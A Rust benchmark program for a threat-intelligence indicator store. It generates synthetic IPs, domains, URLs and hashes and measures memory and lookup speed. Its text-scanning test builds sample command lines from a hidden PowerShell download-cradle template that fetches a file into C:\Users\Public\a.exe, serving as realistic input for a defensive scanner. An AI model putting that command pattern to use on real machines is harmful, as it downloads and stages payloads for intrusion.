//! Loads a million mixed indicators into an `Intel` and measures memory per indicator,
//! build time and lookups per second on one thread.
//!
//! ```text
//! cargo run --release -p watchfloor-intel --example bench_lookup [-- INDICATORS [QUERIES]]
//! ```
//!
//! The mix: 40% IPv4, 5% networks, 25% domains, 15% URLs, 15% file hashes (5% MD5,
//! 3% SHA-1, 7% SHA-256), from 24 feeds (the attribution profiles); each indicator has
//! its own reference (half a 36-character UUID, half `feed.txt:line`), a third of
//! them their own validity bounds, and one in ten is reported by a second feed too.
//! Queries are half values of stored indicators (a network's indicators queried by an
//! address inside it, a domain's by a name below it half the time) and half random
//! values of the same kinds; then, closer to what the fields of events hold, values
//! only 1% of which match. Memory is counted twice: from the store's own accounting
//! of allocated capacities, and as the growth of the process's resident set.

use std::hint::black_box;
use std::time::Instant;

use watchfloor_event::Timestamp;
use watchfloor_intel::{Attribution, Intel, Kind, NewIndicator, Tlp};

const SEED: u64 = 0x5eed_1d1c_a7e5_0001;

#[inline]
fn splitmix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(splitmix(seed))
    }
    fn next(&mut self) -> u64 {
        self.0 = splitmix(self.0);
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

const TLDS: [&str; 10] = [
    "com", "net", "org", "ru", "cn", "info", "xyz", "top", "io", "de",
];

fn label(rng: &mut Rng, out: &mut String) {
    const CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let len = 4 + rng.below(8);
    for _ in 0..len {
        out.push(CHARS[rng.below(26 + if out.is_empty() { 0 } else { 10 }) as usize] as char);
    }
    if rng.below(5) == 0 {
        out.push('-');
        out.push_str(["login", "secure", "update", "cdn", "mail"][rng.below(5) as usize]);
    }
}

fn domain(rng: &mut Rng) -> String {
    let mut s = String::new();
    if rng.below(3) == 0 {
        label(rng, &mut s);
        s.push('.');
    }
    label(rng, &mut s);
    s.push('.');
    s.push_str(TLDS[rng.below(TLDS.len() as u64) as usize]);
    s
}

fn ipv4(rng: &mut Rng) -> String {
    std::net::Ipv4Addr::from(rng.next() as u32).to_string()
}

fn url(rng: &mut Rng) -> String {
    let scheme = if rng.below(3) == 0 { "http" } else { "https" };
    let host = if rng.below(10) == 0 {
        ipv4(rng)
    } else {
        domain(rng)
    };
    let mut path = String::new();
    for _ in 0..1 + rng.below(3) {
        path.push('/');
        label(rng, &mut path);
    }
    path.push_str([".php", ".exe", ".sh", "", ".zip"][rng.below(5) as usize]);
    if rng.below(3) == 0 {
        path.push_str("?id=");
        path.push_str(&rng.next().to_string());
    }
    format!("{scheme}://{host}{path}")
}

fn hex(rng: &mut Rng, len: usize) -> String {
    let mut s = String::with_capacity(len);
    while s.len() < len {
        s.push_str(&format!("{:016x}", rng.next()));
    }
    s.truncate(len);
    s
}

fn network(rng: &mut Rng) -> String {
    let len = match rng.below(100) {
        0..70 => 24,
        70..80 => 23,
        80..88 => 22,
        88..93 => 20,
        93..97 => 16,
        _ => 32,
    };
    let addr = rng.next() as u32;
    let mask = u32::MAX.checked_shl(32 - len).unwrap_or(0);
    format!("{}/{len}", std::net::Ipv4Addr::from(addr & mask))
}

/// Indicator number `i`: always the same for the same `i`.
fn indicator(i: u64) -> (Kind, String) {
    let mut rng = Rng::new(SEED ^ i.wrapping_mul(0x2545_f491_4f6c_dd1d));
    match rng.below(100) {
        0..40 => (Kind::Ipv4, ipv4(&mut rng)),
        40..45 => (Kind::Cidr, network(&mut rng)),
        45..70 => (Kind::Domain, domain(&mut rng)),
        70..85 => (Kind::Url, url(&mut rng)),
        85..90 => (Kind::Md5, hex(&mut rng, 32)),
        90..93 => (Kind::Sha1, hex(&mut rng, 40)),
        _ => (Kind::Sha256, hex(&mut rng, 64)),
    }
}

const FEEDS: u64 = 24;

fn attribution(i: u64, feed: u64) -> Attribution {
    let mut a = Attribution::from_source(format!("feed-{feed}"));
    a.confidence = [30, 50, 75, 90][(feed % 4) as usize];
    a.tlp = [Tlp::Clear, Tlp::Green, Tlp::Amber][(feed % 3) as usize];
    a.tags = vec![["malware", "phishing", "c2", "scanner"][(feed % 4) as usize].to_owned()];
    if feed.is_multiple_of(2) {
        a.attack = vec!["T1071.001".to_owned()];
    }
    let mut rng = Rng::new(i ^ 0xabcdef);
    a.reference = Some(if i.is_multiple_of(2) {
        let h = hex(&mut rng, 32);
        format!(
            "{}-{}-{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..]
        )
    } else {
        format!("feed-{feed}.txt:{i}")
    });
    if i.is_multiple_of(3) {
        let from = 1_700_000_000_000_000_000 + (rng.below(86_400) as i64) * 1_000_000_000;
        a.valid_from = Some(Timestamp(from));
        a.valid_until = Some(Timestamp(from + 90 * 86_400 * 1_000_000_000));
    }
    a
}

/// Nanoseconds this thread has run on a CPU: on a shared machine, rates per CPU
/// second say more than rates per wall-clock second.
fn cpu_nanos() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

/// Wall-clock and CPU time of `f`.
fn timed(f: impl FnOnce()) -> (f64, f64) {
    let (t, c) = (Instant::now(), cpu_nanos());
    f();
    (t.elapsed().as_secs_f64(), (cpu_nanos() - c) as f64 / 1e9)
}

fn rss_bytes() -> Option<usize> {
    let statm = std::fs::read_to_string("/proc/self/statm").ok()?;
    let pages: usize = statm.split_whitespace().nth(1)?.parse().ok()?;
    Some(pages * 4096)
}

/// A query: half of them a stored value (as an event would carry it), half a miss.
fn query(q: u64, n: u64) -> (Option<Kind>, String) {
    let mut rng = Rng::new(q ^ 0x9999_0000_1111);
    if rng.below(2) == 0 {
        let (kind, v) = indicator(rng.below(n));
        match kind {
            Kind::Cidr => {
                let (net, len) = v.split_once('/').expect("a network");
                let len: u32 = len.parse().expect("a length");
                let base = u32::from(net.parse::<std::net::Ipv4Addr>().expect("an address"));
                let host = (rng.next() as u32) & u32::MAX.checked_shr(len).unwrap_or(0);
                (
                    Some(Kind::Ipv4),
                    std::net::Ipv4Addr::from(base | host).to_string(),
                )
            }
            Kind::Domain if rng.below(2) == 0 => (Some(kind), format!("www.{v}")),
            Kind::Md5 | Kind::Sha1 | Kind::Sha256 => (Some(Kind::Sha256), v.to_uppercase()),
            _ => (Some(kind), v),
        }
    } else {
        match rng.below(100) {
            0..45 => (Some(Kind::Ipv4), ipv4(&mut rng)),
            45..70 => (Some(Kind::Domain), format!("www.{}", domain(&mut rng))),
            70..85 => (Some(Kind::Url), url(&mut rng)),
            _ => {
                let len = [32, 40, 64][rng.below(3) as usize];
                (Some(Kind::Sha256), hex(&mut rng, len))
            }
        }
    }
}

fn main() {
    let mut args = std::env::args().skip(1);
    let n: u64 = args
        .next()
        .and_then(|a| a.parse().ok())
        .unwrap_or(1_000_000);
    let queries: u64 = args
        .next()
        .and_then(|a| a.parse().ok())
        .unwrap_or(1_000_000);
    let now = Timestamp(1_700_000_000_000_000_000 + 30 * 86_400 * 1_000_000_000);

    let rss_before = rss_bytes();
    let mut intel = Intel::default();
    let mut rejected = 0;
    let (build_wall, build_cpu) = timed(|| {
        for i in 0..n {
            let (kind, value) = indicator(i);
            let feed = i % FEEDS;
            let new = NewIndicator {
                kind,
                value,
                attribution: attribution(i, feed),
            };
            let second = i.is_multiple_of(10).then(|| {
                let mut b = attribution(i + 1, (feed + 7) % FEEDS);
                b.reference = None;
                NewIndicator {
                    attribution: b,
                    ..new.clone()
                }
            });
            if intel.add(new, Timestamp(i as i64)).is_err() {
                rejected += 1;
            }
            if let Some(second) = second {
                let _ = intel.add(second, Timestamp(i as i64));
            }
        }
        intel.prepare();
    });
    let rss_after = rss_bytes();
    let stats = intel.stats(now);

    println!(
        "indicators: {} stored ({} generated, {} refused by normalisation), {} attributions, {} profiles",
        stats.indicators, n, rejected, stats.attributions, stats.profiles
    );
    println!("by kind: {:?}", stats.by_kind);
    println!(
        "build: {build_wall:.2} s wall, {build_cpu:.2} s CPU ({:.0} ns CPU per indicator, generating it included)",
        build_cpu * 1e9 / n as f64
    );
    let per = |b: usize| b as f64 / stats.indicators.max(1) as f64;
    let m = stats.memory;
    println!(
        "memory (allocated capacities): {:.1} MiB = {:.1} B/indicator \
         [records {:.1}, attributions {:.1}, strings {:.1}, profiles {:.2}, indexes {:.1}]",
        m.total as f64 / 1048576.0,
        per(m.total),
        per(m.records),
        per(m.attributions),
        per(m.strings),
        per(m.profiles),
        per(m.indexes)
    );
    if let (Some(a), Some(b)) = (rss_before, rss_after) {
        println!(
            "memory (resident set growth): {:.1} MiB = {:.1} B/indicator",
            (b - a) as f64 / 1048576.0,
            per(b.saturating_sub(a))
        );
    }

    // The query values side by side in one string, as an event's fields would be
    // (in cache), rather than scattered over the heap.
    let mut qtext = String::new();
    let mut qs: Vec<(Option<Kind>, std::ops::Range<usize>)> = Vec::new();
    for q in 0..queries {
        let (hint, v) = query(q, n);
        qs.push((hint, qtext.len()..qtext.len() + v.len()));
        qtext.push_str(&v);
    }
    let qtext = qtext.as_str();
    let mut out = Vec::new();
    let mut matched = 0usize;
    let mut hits = Vec::new();
    let mut misses = Vec::new();
    for q in &qs {
        out.clear();
        intel.lookup(q.0, &qtext[q.1.clone()], now, &mut out);
        matched += usize::from(!out.is_empty());
        if out.is_empty() {
            misses.push(q);
        } else {
            hits.push(q);
        }
    }
    let report = |name: &str, count: usize, (wall, cpu): (f64, f64)| {
        println!(
            "{name:16} {:6.2} M/s per CPU second ({:4.0} ns), {:6.2} M/s wall-clock",
            count as f64 / cpu / 1e6,
            cpu * 1e9 / count as f64,
            count as f64 / wall / 1e6,
        );
    };
    println!(
        "queries: {} ({:.1}% match something); one thread:",
        qs.len(),
        100.0 * matched as f64 / qs.len() as f64
    );
    let passes = 3;
    let lookups =
        |qs: &[&(Option<Kind>, std::ops::Range<usize>)], hinted: bool, out: &mut Vec<_>| {
            timed(|| {
                for _ in 0..passes {
                    for (hint, r) in qs {
                        out.clear();
                        let hint = if hinted { *hint } else { None };
                        intel.lookup(hint, black_box(&qtext[r.clone()]), now, out);
                        black_box(&out);
                    }
                }
            })
        };
    let all: Vec<_> = qs.iter().collect();
    report(
        "lookup (hinted)",
        passes * all.len(),
        lookups(&all, true, &mut out),
    );
    for (name, kind) in [
        ("  ipv4", Kind::Ipv4),
        ("  domain", Kind::Domain),
        ("  url", Kind::Url),
        ("  hash", Kind::Sha256),
    ] {
        let sub: Vec<_> = qs.iter().filter(|(h, _)| *h == Some(kind)).collect();
        report(name, passes * sub.len(), lookups(&sub, true, &mut out));
    }
    report(
        "  matching",
        passes * hits.len(),
        lookups(&hits, true, &mut out),
    );
    report(
        "  not matching",
        passes * misses.len(),
        lookups(&misses, true, &mut out),
    );
    report(
        "lookup (no hint)",
        passes * all.len(),
        lookups(&all, false, &mut out),
    );

    // Event-like traffic: the values in a day of logs almost never hit an indicator.
    // Uniformly random values (no repetition, so no help from the caches), 1% of them
    // stored ones.
    let uniform: Vec<_> = misses
        .iter()
        .copied()
        .enumerate()
        .map(|(i, q)| {
            if i % 100 == 0 {
                hits[i % hits.len()]
            } else {
                q
            }
        })
        .collect();
    report(
        "  1% match",
        passes * uniform.len(),
        lookups(&uniform, true, &mut out),
    );

    // Free text: command lines holding a URL, an address and a hash among other words.
    let texts: Vec<String> = qs
        .chunks(3)
        .map(|c| {
            let v: Vec<&str> = c.iter().map(|(_, r)| &qtext[r.clone()]).collect();
            format!(
                "cmd.exe /c powershell -nop -w hidden -c \"iwr {} -OutFile C:\\Users\\Public\\a.exe\"; ping {} # {}",
                v[0],
                v.get(1).unwrap_or(&"127.0.0.1"),
                v.get(2).unwrap_or(&"")
            )
        })
        .collect();
    let bytes: usize = texts.iter().map(String::len).sum();
    let mut found = 0usize;
    let t = timed(|| {
        for text in &texts {
            out.clear();
            intel.scan_text(black_box(text), now, &mut out);
            found += out.len();
        }
    });
    report("scan_text", texts.len(), t);
    println!(
        "  {:.0} MB/s per CPU second; {} texts of {:.0} bytes on average, {} matches",
        bytes as f64 / t.1 / 1e6,
        texts.len(),
        bytes as f64 / texts.len() as f64,
        found
    );
}
